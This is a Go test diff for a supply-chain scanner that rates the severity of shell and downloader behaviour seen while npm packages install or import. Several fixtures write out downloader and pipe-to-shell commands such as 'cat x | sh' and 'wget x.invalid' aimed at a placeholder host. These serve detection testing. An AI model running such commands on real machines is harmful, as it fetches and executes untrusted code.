@@ -61,6 +61,14 @@ func TestSeverityByRisk(t *testing.T) {
 		{"more than a require", profile.PhaseInstall, profile.Behavior{Processes: []profile.Process{proc("node", "-e", "require('./a');require('https').get('x')")}}, RuleShellDownloader, High},
 		{"own file outside the install phase", profile.PhaseImport, profile.Behavior{Processes: []profile.Process{proc("node", "-e", "require('./postinstall')")}}, RuleShellDownloader, High},
 
+		{"a shell looking up the machine id (node-machine-id)", profile.PhaseExecute, profile.Behavior{Processes: []profile.Process{
+			proc("/bin/sh", "-c", "( cat /var/lib/dbus/machine-id /etc/machine-id 2> /dev/null || hostname ) | head -n 1 || :")}}, RuleShellDownloader, Medium},
+		{"a shell listing processes (pstree.remy)", profile.PhaseImport, profile.Behavior{Processes: []profile.Process{proc("/bin/sh", "-c", "ps")}}, RuleShellDownloader, Medium},
+		{"a shell with a substitution", profile.PhaseImport, profile.Behavior{Processes: []profile.Process{proc("/bin/sh", "-c", "echo $(curl -s x.invalid)")}}, RuleShellDownloader, High},
+		{"a shell writing a file", profile.PhaseImport, profile.Behavior{Processes: []profile.Process{proc("/bin/sh", "-c", "cat /etc/machine-id > /tmp/x")}}, RuleShellDownloader, High},
+		{"a shell piping into another shell", profile.PhaseImport, profile.Behavior{Processes: []profile.Process{proc("/bin/sh", "-c", "cat x | sh")}}, RuleShellDownloader, High},
+		{"a shell running a downloader", profile.PhaseImport, profile.Behavior{Processes: []profile.Process{proc("/bin/sh", "-c", "hostname; wget x.invalid")}}, RuleShellDownloader, High},
+		{"a lookup shell beside a downloader", profile.PhaseImport, profile.Behavior{Processes: []profile.Process{proc("/bin/sh", "-c", "ps"), proc("/usr/bin/curl", "x.invalid")}}, RuleShellDownloader, High},
 		{"write that succeeded", profile.PhaseInvoke, profile.Behavior{Files: []profile.File{{Path: "/var/task/index.js", Access: "write"}}}, RuleWriteOutsideTmp, High},
 		{"write that failed", profile.PhaseInvoke, profile.Behavior{Files: []profile.File{{Path: "/var/task/index.js", Access: "write", Failed: true}}}, RuleWriteOutsideTmp, Medium},
 	}
